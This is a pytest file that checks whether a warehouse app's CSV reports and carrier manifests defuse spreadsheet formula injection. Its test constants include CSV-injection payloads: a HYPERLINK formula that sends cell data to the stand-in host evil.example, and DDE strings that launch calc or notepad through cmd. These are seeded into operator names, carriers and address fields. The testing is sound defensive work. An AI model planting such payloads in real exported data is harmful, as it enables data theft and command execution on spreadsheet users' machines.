"""Reports written as CSV with hostile names in them: a spreadsheet shows them, never runs them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select, update

from packstation.cli.main import main
from packstation.domain import spreadsheet
from packstation.domain.spreadsheet import FORMULA_STARTS, safe_cell, safe_row
from packstation.models import Defect, Operator, PackSession, Parcel
from packstation.models.db import open_database
from tests.models.test_reports import seed_deliveries, seed_shift

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_CMD = "+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (AT_SUM, "'" + AT_SUM),
        (PLUS_CMD, "'" + PLUS_CMD),
        (MINUS, "'" + MINUS),
        (TAB, "'" + TAB),
        (CR, "'" + CR),
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),
        ("-", "'-"),
        ("Anna K.", "Anna K."),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        # Numbers we write stay numbers.
        (-3, "-3"),
        (-2.5, "-2.5"),
        (Decimal("-1.20"), "-1.20"),
        ("-12.50", "-12.50"),
        ("+7", "+7"),
        (0, "0"),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_safe_row() -> None:
    assert safe_row(["=1", 2, "x"]) == ["'=1", "2", "x"]


def test_a_carriage_return_cannot_start_a_new_row() -> None:
    # csv.writer(lineterminator="\n") leaves a lone CR unquoted: a spreadsheet would start a
    # new row there, with "=1+1" as its first cell.
    buf = io.StringIO()
    spreadsheet.writer(buf).writerow(["x\r=1+1", "a\nb", -1])
    assert buf.getvalue() == '"x\r=1+1","a\nb",-1\r\n'
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [["x\r=1+1", "a\nb", "-1"]]


@pytest.fixture
def hostile_url(sqlite_url: str) -> Iterator[str]:
    """The report fixtures with hostile operator names, station ids, carriers and tariffs,
    and one session that ended before it started (a negative average)."""
    db = open_database(sqlite_url)
    with db.unit_of_work() as s:
        seed_deliveries(s)
        seed_shift(s)
        s.flush()
        s.execute(update(Operator).where(Operator.badge == "B-1").values(name=HYPERLINK))
        s.execute(update(Operator).where(Operator.badge == "B-2").values(name=AT_SUM))
        for table in (PackSession, Defect):
            s.execute(update(table).where(table.station_id == "PS-02").values(station_id=PLUS_CMD))
        late = s.scalars(select(PackSession).where(PackSession.order_id == "S7")).one()
        late.ended_at = late.started_at - timedelta(minutes=30)
        s.execute(update(Parcel).where(Parcel.carrier == "RUSSIAN-POST").values(carrier=MINUS))
        s.execute(update(Parcel).where(Parcel.tariff == "PARCEL").values(tariff=TAB))
        s.execute(update(Parcel).where(Parcel.tariff == "EXPRESS").values(tariff=CR))
    db.dispose()
    yield sqlite_url


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _assert_inert(rows: list[list[str]]) -> None:
    """What a spreadsheet would evaluate: a cell starting with a formula character that is
    not a plain number."""
    for row in rows:
        for cell in row:
            if cell[:1] in FORMULA_STARTS:
                float(cell)  # a plain number, or this raises


def test_shift_report_csv_quotes_hostile_names(hostile_url: str, tmp_path: Path) -> None:
    out = tmp_path / "shift.csv"
    since, until = "2024-05-01T06:00+00:00", "2024-05-01T18:00+00:00"
    args = ["report", "shift", "--since", since, "--until", until, "--csv", str(out)]
    assert main([*args, "--db", hostile_url]) == 0
    rows = _cells(out)
    _assert_inert(rows)
    by = {(r[0], r[1]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by) == {
        ("PS-01", "'" + HYPERLINK),
        ("'" + PLUS_CMD, "'" + HYPERLINK),
        ("'" + PLUS_CMD, "'" + AT_SUM),
        ("", "Maria L."),
        ("", "ALL"),
    }
    negative = by[("'" + PLUS_CMD, "'" + HYPERLINK)]
    assert negative["avg_minutes"] == "-30.00"  # a number we wrote: left a number
    assert by[("'" + PLUS_CMD, "'" + AT_SUM)]["orders"] == "2"


def test_deliveries_report_csv_quotes_hostile_codes(hostile_url: str, tmp_path: Path) -> None:
    out = tmp_path / "deliveries.csv"
    args = ["report", "deliveries", "--since", "2024-05-01T00:00Z", "--until", "2024-05-07"]
    assert main([*args, "--csv", str(out), "--db", hostile_url]) == 0
    rows = _cells(out)
    _assert_inert(rows)
    assert [(r[0], r[1]) for r in rows[1:]] == [
        ("'" + MINUS, "'" + TAB),
        ("OZON-COURIER", "'" + CR),
        ("ALL", "ALL"),
    ]
    assert rows[2][rows[0].index("median_h")] == "30.00"


def test_manifest_csv_defuses_customer_fields() -> None:
    """The carrier's CSV holds buyer names and addresses: they stay text in a spreadsheet."""
    from datetime import UTC, date, datetime

    from packstation.domain.manifest import ManifestLine, ManifestView
    from packstation.labels.manifest_doc import manifest_csv

    line = ManifestLine(
        parcel_id="PCL-1",
        order_id="ORD-1",
        tariff="STD",
        weight_g=Decimal(1055),
        recipient=HYPERLINK,
        city=CR,
        postcode=PLUS_CMD,
        country="RU",
    )
    view = ManifestView(
        "MAN-1", "CDEK", date(2026, 12, 4), datetime(2026, 12, 4, tzinfo=UTC), (line,)
    )
    rows = list(csv.reader(io.StringIO(manifest_csv(view), newline="")))
    assert rows[1][6] == "1055"
    assert rows[1][7:10] == ["'" + HYPERLINK, "'" + PLUS_CMD, "'" + CR]
    assert len(rows) == 2  # the CR stayed inside its quoted cell
